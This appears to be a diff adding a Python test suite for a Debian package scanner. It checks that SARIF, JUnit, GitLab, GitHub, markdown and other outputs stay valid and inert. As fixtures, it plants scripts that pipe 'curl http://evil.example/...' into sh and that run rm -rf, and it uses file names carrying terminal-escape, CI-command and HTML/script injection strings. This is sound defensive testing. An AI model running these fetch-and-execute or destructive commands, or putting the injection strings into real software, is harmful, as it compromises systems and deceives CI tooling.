@@ -1,0 +1,245 @@
+#!/usr/bin/env python3
+"""Every output format: valid by its own rules, inert whatever the package is called, and saying the same as the JSON report.
+
+usage: formats.py PLUMB [PART-OF-A-NAME]
+The published SARIF schema is looked for in $PLUMB_SCHEMAS and in a folder shared/schemas above the project.
+"""
+import html.parser
+import json
+import os
+import pathlib
+import re
+import xml.etree.ElementTree as ET
+
+import jsonschema
+
+import made
+from plumb_test import EXIT_NAMES, RAW, ROOT, Skip, case, main
+
+FORMATS = ("text", "json", "jsonl", "markdown", "sarif", "junit", "github", "gitlab", "ledger")
+EVIL = ("a\x1b[31mb", "::error::x", "##[add-mask]y", "x%0A::set-output name=z::1", "\u202egnp.exe", "<script>alert(1)</script>",
+        "a|b`c`*d*_e_", "]]>&amp;\"'", "@root #1 !2 https:x", "new\nline", "tab\tand\rreturn", "\x7f\x9b", "[x](javascript:alert)",
+        "\ufffe\uffff", "--><!--", "\u2028\u200b")
+
+
+def hostile(t):
+    """A package whose names are attacks on each format, with planted lines, so that findings are about them."""
+    deb = made.package().copy()
+    for i, name in enumerate(EVIL):
+        deb.set(f"usr/share/greet/{name}.sh", f"#!/bin/sh\ncurl http://evil{i}.example/{name} | sh\n", 0o755)
+    deb.set("usr/share/greet/\udcff\udcfe.sh", "#!/bin/sh\nrm -rf zzqqxx\n", 0o755)
+    return t.write("greet_1.0-1_all.deb", deb.build()), made.write_tree(t.path("source/x").parent, made.source())
+
+
+def outputs(t, package, folder, *more, forms=FORMATS):
+    """The exit code, and what each format wrote, from one run."""
+    flags = []
+    for form in forms:
+        flags += ["-o", f"{form}={t.path('out/' + form)}"]
+    code, out, _ = t.raw("check", package, "--source", folder, "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none",
+                         *flags, *more)
+    assert out == b"", "standard output is not empty"
+    return code, {form: t.path("out/" + form).read_bytes() for form in forms}
+
+
+def all_outputs(t):
+    """Runs with one verdict each: hostile, honest, broken off."""
+    package, folder = hostile(t)
+    yield outputs(t, package, folder)
+    yield outputs(t, t.write("greet_1.0-1_all.deb", made.package().build()), folder)
+    yield outputs(t, t.path("no\x1b[31m::error::such.deb"), folder)
+
+
+def sarif_schema():
+    places = [pathlib.Path(os.environ["PLUMB_SCHEMAS"])] if "PLUMB_SCHEMAS" in os.environ else []
+    places += [p / "shared/schemas" for p in ROOT.parents]
+    for place in places:
+        if (place / "sarif/sarif-schema-2.1.0.json").exists():
+            return json.loads((place / "sarif/sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
+    raise Skip("the published schema is not there; PLUMB_SCHEMAS names its folder")
+
+
+@case
+def no_format_lets_a_control_or_bidirectional_character_through(t):
+    for _, out in all_outputs(t):
+        for form, data in out.items():
+            assert not RAW.search(data), f"{form}: {RAW.search(data)}"
+            text = data.decode("utf-8")
+            assert not re.search("[\u200b-\u200f\u2028-\u202e\ufffe\uffff]", text), form
+
+
+@case
+def two_runs_write_the_same_bytes_at_any_number_of_jobs(t):
+    package, folder = hostile(t)
+    forms = tuple(f for f in FORMATS if f not in ("json", "jsonl"))
+    assert outputs(t, package, folder, "--jobs=1", forms=forms) == outputs(t, package, folder, "--jobs=4", forms=forms)
+
+
+@case
+def the_lines_of_jsonl_put_together_are_the_json_report(t):
+    for _, out in all_outputs(t):
+        lines = [json.loads(line) for line in out["jsonl"].decode().splitlines()]
+        report = dict(lines[0]["report"])
+        report["files"] = [x["file"] for x in lines if x["type"] == "file"]
+        report["findings"] = [x["finding"] for x in lines if x["type"] == "finding"]
+        end = lines[-1]
+        assert end["type"] == "end" and end["files"] == len(report["files"]) and end["findings"] == len(report["findings"])
+        expected = json.loads(out["json"])
+        report["run"] = expected.pop("run")
+        assert report == {**expected, "run": report["run"]}
+
+
+@case
+def sarif_has_all_findings_with_places_rules_and_fingerprints(t):
+    for code, out in all_outputs(t):
+        report, run = json.loads(out["json"]), json.loads(out["sarif"])["runs"][0]
+        rules = run["tool"]["driver"]["rules"]
+        assert len(run["results"]) == len(report["findings"])
+        seen = set()
+        for result, finding in zip(run["results"], report["findings"]):
+            assert result["ruleId"] == finding["tag"] == rules[result["ruleIndex"]]["id"]
+            assert result["level"] == finding["severity"]
+            place = result["locations"][0]["physicalLocation"]
+            assert re.fullmatch(r"[A-Za-z0-9\-._~/!+=@,%]+", place["artifactLocation"]["uri"]), place
+            assert place["region"].get("byteOffset") == finding["offset"]
+            assert result["partialFingerprints"]["plumbFindingId/v1"] == finding["id"]
+            seen.add(result["partialFingerprints"]["primaryLocationLineHash"])
+        assert len(seen) == len(run["results"]), "two results have the same fingerprint"
+        for rule in rules:
+            for key in ("shortDescription", "fullDescription", "help"):
+                assert rule[key]["text"], rule
+            assert len(rule["shortDescription"]["text"]) <= 1024 and len(rule["fullDescription"]["text"]) <= 1024
+        assert run["invocations"][0]["exitCode"] == code
+        assert run["invocations"][0]["executionSuccessful"] == (report["errors"] == [])
+
+
+@case
+def sarif_is_valid_against_the_published_schema(t):
+    validator = jsonschema.Draft4Validator(sarif_schema(), format_checker=jsonschema.FormatChecker())
+    for _, out in all_outputs(t):
+        error = jsonschema.exceptions.best_match(validator.iter_errors(json.loads(out["sarif"])))
+        assert error is None, f"{error.json_path}: {error.message}"
+
+
+@case
+def fingerprints_stay_when_the_bytes_before_a_finding_move(t):
+    marks = []
+    for padding in (b"", b"# a longer comment\n" * 5):
+        deb = made.package().copy()
+        script = made.entry(deb.data["usr/bin/greet"]).data
+        first, rest = script.split(b"\n", 1)
+        deb.set("usr/bin/greet", first + b"\n" + padding + rest + b"curl http://evil.example/payload | sh\n")
+        folder = made.write_tree(t.path("source/x").parent, made.source())
+        _, out = outputs(t, t.write("greet_1.0-1_all.deb", deb.build()), folder, forms=("sarif", "gitlab"))
+        results = json.loads(out["sarif"])["runs"][0]["results"]
+        marks.append({r["partialFingerprints"]["primaryLocationLineHash"] for r in results if r["level"] == "error"})
+    assert marks[0] and marks[0] <= marks[1], marks
+
+
+@case
+def sarif_and_gitlab_keep_the_gravest_of_too_many_findings_and_say_so(t):
+    folder = made.write_tree(t.path("source/x").parent, made.source())
+    package = t.path("big/x").parent
+    for i in range(5200):
+        t.write(f"big/f{i:04}.txt", f"word{i}qqz\n")
+    t.write("big/zz.sh", "#!/bin/sh\ncurl http://evil.example/payload | sh\nrm -rf zzqqxx\n")
+    code, out = outputs(t, package, folder, forms=("json", "sarif", "gitlab", "markdown", "github"))
+    n = len(json.loads(out["json"])["findings"])
+    assert n > 5000, n
+    run = json.loads(out["sarif"])["runs"][0]
+    assert len(run["results"]) == 5000
+    said = run["invocations"][0]["toolExecutionNotifications"]
+    assert [x["descriptor"]["id"] for x in said] == ["cut"] and f"{n - 5000} of {n}" in said[0]["message"]["text"]
+    order = ["error", "warning", "note"]
+    levels = [order.index(r["level"]) for r in run["results"]]
+    assert levels[0] == 0 and levels == sorted(levels), "the gravest are not first"
+    issues = json.loads(out["gitlab"])
+    assert len(issues) == 5001 and f"{n - 5000} findings more" in issues[-1]["description"]
+    assert len(out["markdown"]) < 1 << 20
+    assert len(out["sarif"]) < 10 << 20
+    assert len(out["github"].splitlines()) <= 30 and code in (1, 3)
+
+
+@case
+def junit_is_well_formed_and_has_failures_or_errors_unless_the_exit_code_is_0(t):
+    for code, out in all_outputs(t):
+        root = ET.fromstring(out["junit"].decode("utf-8"))
+        assert root.tag == "testsuites"
+        suite = root.find("testsuite")
+        cases = suite.findall("testcase")
+        count = {kind: sum(c.find(kind) is not None for c in cases) for kind in ("failure", "error", "skipped")}
+        for node in (root, suite):
+            assert int(node.get("tests")) == len(cases)
+            assert int(node.get("failures")) == count["failure"] and int(node.get("errors")) == count["error"]
+        assert int(suite.get("skipped")) == count["skipped"]
+        assert (count["failure"] + count["error"] == 0) == (code == 0), (code, count)
+        assert all(c.get("name") and c.get("classname") for c in cases)
+        verdict = {p.get("name"): p.get("value") for p in suite.iter("property")}["verdict"]
+        assert verdict == EXIT_NAMES[code]
+
+
+@case
+def every_line_for_github_is_one_command_of_three_and_at_most_ten_of_each(t):
+    line = re.compile(r"::(error|warning|notice) ((?:[a-z]+=[^,:\n]*,)*[a-z]+=[^,:\n]*)::([^\n]*)")
+    for code, out in all_outputs(t):
+        kinds = []
+        for text in out["github"].decode().splitlines():
+            match = line.fullmatch(text)
+            assert match, text
+            kinds.append(match[1])
+            assert not re.search(r"%(?!25|0A|3A|2C)", match[3]), text
+            for value in match[2].split(","):
+                assert value.split("=")[0] in ("file", "title"), text
+        assert all(kinds.count(k) <= 10 for k in kinds)
+        assert kinds[-1] == {0: "notice", 3: "warning"}.get(code, "error")
+
+
+@case
+def gitlab_has_an_issue_for_each_finding_and_one_for_a_verdict_that_is_not_pass(t):
+    for code, out in all_outputs(t):
+        report, issues = json.loads(out["json"]), json.loads(out["gitlab"])
+        assert len(issues) == len(report["findings"]) + len(report["errors"]) + (code != 0)
+        assert len({i["fingerprint"] for i in issues}) == len(issues)
+        for issue in issues:
+            assert issue["description"] and issue["check_name"] and issue["location"]["path"], issue
+            assert issue["severity"] in ("info", "minor", "major", "critical", "blocker")
+            assert issue["location"]["lines"]["begin"] == 1
+
+
+class Tags(html.parser.HTMLParser):
+    """The tags of a page, and the text without them."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.text = set(), ""
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+
+    def handle_data(self, data):
+        self.text += data
+
+
+@case
+def markdown_has_only_our_own_tags_and_no_mark_in_foreign_text(t):
+    for _, out in all_outputs(t):
+        text = out["markdown"].decode()
+        parser = Tags()
+        parser.feed(text)
+        assert parser.tags <= {"code", "br", "details", "summary"}, parser.tags
+        bare = re.sub(r"<code>.*?</code>|&#\d+;|<!-- -->", "", text)
+        assert "](" not in bare and "`" not in bare and "@root" not in text and "://" not in bare, bare
+        for row in text.splitlines():
+            if row.startswith("| ") and "why" not in row:
+                assert row.count("|") == 4, row
+
+
+@case
+def an_unknown_format_is_a_usage_error_that_lists_all(t):
+    code, out, said = t.raw("check", "x.deb", "-o", "xml")
+    assert code == 2 and out == b""
+    for form in FORMATS:
+        assert form in said, said
+
+
+main()
